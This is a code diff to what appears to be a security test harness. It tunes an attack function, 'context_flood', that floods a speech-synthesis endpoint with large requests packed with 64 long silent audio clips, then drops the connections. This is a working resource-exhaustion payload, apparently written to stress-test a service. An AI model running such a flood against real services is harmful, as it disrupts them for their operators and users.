@@ -23,7 +23,7 @@ def quiet_recording(seconds: float, rate: int = 24_000) -> bytes:
     import soundfile
 
     samples = np.zeros(int(seconds * rate), np.float32)
-    samples[:: rate // 2] = 0.5
+    samples[:: 5 * rate] = 0.5
     file = io.BytesIO()
     soundfile.write(file, samples, rate, format="FLAC")
     return file.getvalue()
@@ -31,7 +31,7 @@ def quiet_recording(seconds: float, rate: int = 24_000) -> bytes:
 
 @attack()
 async def context_flood(target: Target) -> str:
-    """Five POST /fal-ai/csm-1b with 64 recordings of 59 s each; the clients leave after 5 s."""
+    """Five POST /fal-ai/csm-1b with 64 recordings of 59 s each; the clients leave after 20 s."""
     uri = "data:audio/flac;base64," + base64.b64encode(quiet_recording(59)).decode()
     context = [{"prompt": "one", "audio_url": uri}] * 64
     body = json.dumps({"scene": [{"text": "one"}], "context": context}).encode()
@@ -42,7 +42,7 @@ async def context_flood(target: Target) -> str:
                 kind = {"Content-Type": "application/json"}
                 return str(
                     (
-                        await client.post("/fal-ai/csm-1b", content=body, headers=kind, timeout=5)
+                        await client.post("/fal-ai/csm-1b", content=body, headers=kind, timeout=20)
                     ).status_code
                 )
             except httpx.TimeoutException:
